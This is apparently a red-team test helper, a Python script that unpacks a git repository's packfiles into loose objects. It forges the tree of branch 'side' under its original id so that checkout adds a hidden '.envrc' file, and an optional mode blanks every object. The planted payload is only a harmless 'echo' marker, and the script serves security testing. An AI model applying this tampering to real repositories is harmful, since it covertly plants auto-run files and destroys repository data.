"""Red team 81 helper, run by the command inside the box (cwd: the repository). Every object of the repository's
packs is written loose (its own bytes), but one: the tree of branch ``side`` (whose checkout the user does next),
written loose under its own id with the bytes of another tree — ``side``'s entries plus ``.envrc`` (text
``echo rt81``). Then the packs are deleted. Git reads loose objects without checking their ids.

argv[1] == "empty": instead write every loose object as an empty file (the pack's objects lost)."""

import glob
import os
import subprocess
import sys
import zlib


def git(*args: str, data: bytes | None = None) -> bytes:
    return subprocess.run(["git", *args], input=data, capture_output=True, check=True, timeout=60).stdout


def loose(oid: str, kind: str, body: bytes, empty: bool = False) -> None:
    d = f".git/objects/{oid[:2]}"
    os.makedirs(d, exist_ok=True)
    p = f"{d}/{oid[2:]}"
    if os.path.exists(p):
        return
    with open(p, "wb") as f:
        if not empty:
            f.write(zlib.compress(kind.encode() + b" " + str(len(body)).encode() + b"\0" + body))


def main() -> None:
    empty = len(sys.argv) > 1 and sys.argv[1] == "empty"
    listed = git("cat-file", "--batch-all-objects", "--batch-check").decode().split("\n")
    objs = [line.split()[:2] for line in listed if line.strip()]
    target = git("rev-parse", "side^{tree}").decode().strip()
    forged = b""
    if not empty:
        blob = git("hash-object", "-w", "--stdin", data=b"echo rt81\n").decode().strip()
        entries = git("ls-tree", "side") + f"100644 blob {blob}\t.envrc\n".encode()
        new_tree = git("mktree", data=entries).decode().strip()
        forged = git("cat-file", "tree", new_tree)
    bodies = {oid: git("cat-file", kind, oid) for oid, kind in objs}
    kinds = dict(objs)
    for oid, body in bodies.items():
        if oid == target and not empty:
            loose(oid, "tree", forged)
        else:
            loose(oid, kinds[oid], body, empty)
    for p in glob.glob(".git/objects/pack/pack-*"):
        os.remove(p)
    print("done", target)


main()
